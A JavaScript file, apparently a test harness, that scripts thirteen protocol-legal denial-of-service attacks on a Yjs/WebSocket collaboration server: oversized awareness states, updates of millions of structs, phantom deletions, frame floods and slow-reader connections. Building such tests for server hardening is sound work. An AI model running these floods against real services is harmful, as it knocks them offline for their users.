// @ts-check
/** What a hostile client sends that costs a server more than it costs her. Each attack is legal by the protocol. */
import * as encoding from "lib0/encoding";
import * as Y from "yjs";

/**
 * @typedef {object} Mallory
 * @property {(path: string, protocol?: string) => Promise<Line>} dial  Opens one more connection.
 * @property {(ms: number) => Promise<void>} sleep
 * @property {() => boolean} isOver  Whether the time of the attack is up.
 */
/**
 * @typedef {object} Line
 * @property {(message: Uint8Array) => void} send
 * @property {(bytes: Uint8Array) => void} sendRaw  Frames and all, on the TCP connection.
 * @property {() => boolean} isOpen
 * @property {() => void} stopReading
 * @property {() => void} leave
 * @property {number} waiting  Bytes that the server has not taken yet.
 */

/** @param {(encoder: encoding.Encoder) => void} write */
const bytes = (write) => encoding.encode(write);
/** @param {...number} values */
const uints = (...values) => allUints(values);

/** @param {readonly number[]} values */
const allUints = (values) =>
  bytes((encoder) => {
    for (const value of values) encoding.writeVarUint(encoder, value);
  });

/** @param {number} id @param {number} clock @param {string} state */
const awareness = (id, clock, state) =>
  bytes((encoder) => {
    encoding.writeVarUint(encoder, 1);
    encoding.writeVarUint8Array(
      encoder,
      bytes((payload) => {
        encoding.writeUint8Array(payload, uints(1, id, clock));
        encoding.writeVarString(payload, state);
      }),
    );
  });

/** @param {number} step @param {Uint8Array} payload */
const sync = (step, payload) =>
  bytes((encoder) => {
    encoding.writeUint8Array(encoder, uints(0, step));
    encoding.writeVarUint8Array(encoder, payload);
  });

const STEP_1 = sync(0, uints(0));
const QUERY = uints(3);
/** @param {Uint8Array} payload */
const update = (payload) => sync(2, payload);

/**
 * An update of structs of one client, as raw bytes.
 *
 * @param {number} client @param {number} clock @param {number} count @param {Uint8Array} all
 */
const structs = (client, clock, count, all) =>
  bytes((encoder) => {
    encoding.writeUint8Array(encoder, uints(1, count, client, clock));
    encoding.writeUint8Array(encoder, all);
    encoding.writeVarUint(encoder, 0);
  });

/** Collected structs of length 1. @param {number} count */
const collected = (count) => Uint8Array.from({ length: 2 * count }, (_, i) => i % 2);

/** @param {number} count */
const fields = (count) => `{${Array.from({ length: count }, (_, i) => `"${i.toString(36)}":1`).join(",")}}`;

/** @param {number} length */
function largeDocument(length) {
  const doc = new Y.Doc();
  doc.getText("text").insert(0, "x".repeat(length));
  return Y.encodeStateAsUpdate(doc);
}

/**
 * Sends so many messages a second for as long as it may.
 *
 * @param {Mallory} mallory @param {Line} line @param {number} perSecond @param {(index: number) => Uint8Array} make
 */
async function keepSending({ isOver, sleep }, line, perSecond, make) {
  const from = performance.now();
  for (let n = 0; !isOver() && line.isOpen(); await sleep(5)) {
    const due = ((performance.now() - from) / 1_000) * perSecond;
    while (n < due && line.waiting < 64e6) line.send(make(n++));
  }
}

/** A frame with a mask of zero. @param {number} head @param {Uint8Array} payload  of less than 126 bytes */
const frame = (head, payload = new Uint8Array()) => Uint8Array.of(head, 0x80 | payload.length, 0, 0, 0, 0, ...payload);

/** @param {Mallory} mallory @param {Line} line @param {Uint8Array} one */
async function keepSendingRaw({ isOver, sleep }, line, one) {
  const block = new Uint8Array(5_000 * one.length);
  for (let i = 0; i < 5_000; i++) block.set(one, i * one.length);
  for (; !isOver() && line.isOpen(); await sleep(1)) if (line.waiting < 1e6) line.sendRaw(block);
}

/** @type {Record<string, (mallory: Mallory) => Promise<void>>} */
export const costly = {
  "patches one of 7,800 fields, 900 times a second": async (mallory) => {
    const line = await mallory.dial("evil", "copresence.v2");
    line.send(awareness(77, 1, fields(7_800)));
    await mallory.sleep(500);
    await keepSending(mallory, line, 900, (i) => Uint8Array.of(...uints(101, 77, 2 + i, 4, 1, 0, 1), 48 + (i % 10), 0));
  },
  "says a state of 7,800 fields, 200 times a second": async (mallory) => {
    const line = await mallory.dial("evil");
    const state = fields(7_800);
    await keepSending(mallory, line, 200, (i) => awareness(77, 1 + i, state.replace(":1", `:${i % 10}`)));
  },
  "writes what builds on what never comes, 900 times a second": async (mallory) => {
    const line = await mallory.dial("evil");
    await keepSending(mallory, line, 900, (i) => update(structs(1_000 + i, 5, 1, collected(1))));
  },
  "deletes 300,000 things that never come, and writes on": async (mallory) => {
    const line = await mallory.dial("evil");
    const deletions = Array.from({ length: 300_000 }, (_, i) => [i * 2, 1]).flat();
    line.send(update(allUints([0, 1, 7, 300_000, ...deletions])));
    await mallory.sleep(1_500);
    await keepSending(mallory, line, 200, (i) => update(structs(9, i, 1, collected(1))));
  },
  "asks for a document that she has, 900 times a second": async (mallory) => {
    const line = await mallory.dial("evil");
    const count = 400_000;
    const doc = bytes((encoder) => {
      for (let i = 0; i < count; i++) {
        if (i % 2 === 1) encoding.writeUint8Array(encoder, Uint8Array.of(0, 1));
        else encoding.writeUint8Array(encoder, Uint8Array.of(1, 1, 1, 116, 1));
      }
    });
    line.send(update(structs(5, 0, count, doc)));
    await mallory.sleep(4_000);
    await keepSending(mallory, line, 900, () => sync(0, uints(1, 5, count)));
  },
  "writes 8 million structs in one message, each two seconds": async (mallory) => {
    const line = await mallory.dial("evil");
    for (let client = 50; !mallory.isOver() && line.isOpen(); client++) {
      line.send(update(structs(client, 0, 7_900_000, collected(7_900_000))));
      await mallory.sleep(2_000);
    }
  },
  "writes half a million subdocuments in one message": async (mallory) => {
    const line = await mallory.dial("evil");
    const one = Uint8Array.of(9, 1, 1, 116, 0, 118, 0);
    const all = new Uint8Array(500_000 * one.length);
    for (let i = 0; i < 500_000; i++) all.set(one, i * one.length);
    line.send(update(structs(50, 0, 500_000, all)));
    await mallory.sleep(8_000);
  },
  "floods with pongs": async (mallory) => {
    await keepSendingRaw(mallory, await mallory.dial("evil"), frame(0x8a));
  },
  "floods with empty parts of a message": async (mallory) => {
    const line = await mallory.dial("evil");
    line.sendRaw(frame(0x02, Uint8Array.of(1)));
    await keepSendingRaw(mallory, line, frame(0x00));
  },
  "asks 120 times for 15 MB on 30 connections, and reads nothing": async (mallory) => {
    const author = await mallory.dial("evil");
    author.send(update(largeDocument(15e6)));
    await mallory.sleep(1_500);
    for (let i = 0; i < 30; i++) {
      const line = await mallory.dial("evil");
      line.stopReading();
      for (let n = 0; n < 4; n++) line.send(STEP_1);
      await mallory.sleep(150);
    }
    await mallory.sleep(3_000);
  },
  "says 384 states of 7,800 fields, once": async (mallory) => {
    for (let room = 0; room < 6; room++) {
      const line = await mallory.dial(`evil-${room}`);
      for (let i = 0; i < 64; i++) line.send(awareness(1_000 + i, 1, fields(7_800)));
      await mallory.sleep(700);
    }
    await mallory.sleep(3_000);
  },
  "asks who is there, again and again, in a room of 1,500 states": async (mallory) => {
    for (let i = 0; i < 25; i++) {
      const line = await mallory.dial("evil");
      for (let n = 0; n < 60; n++) line.send(awareness(1e5 + 60 * i + n, 1, `{"user":{"id":"u${i}_${n}","name":"n"}}`));
    }
    await mallory.sleep(1_000);
    await keepSending(mallory, await mallory.dial("evil"), 200, () => QUERY);
  },
  "brings 1,024 users with names of 64 KB, who leave": async (mallory) => {
    for (let i = 0; i < 16; i++) {
      const line = await mallory.dial(`evil-${i}`);
      for (let n = 0; n < 64; n++) {
        line.send(awareness(100 * i + n, 1, JSON.stringify({ user: { id: `f${i}_${n}`, name: "x".repeat(65_000) } })));
      }
      await mallory.sleep(200);
      line.leave();
    }
    await mallory.sleep(3_000);
  },
};
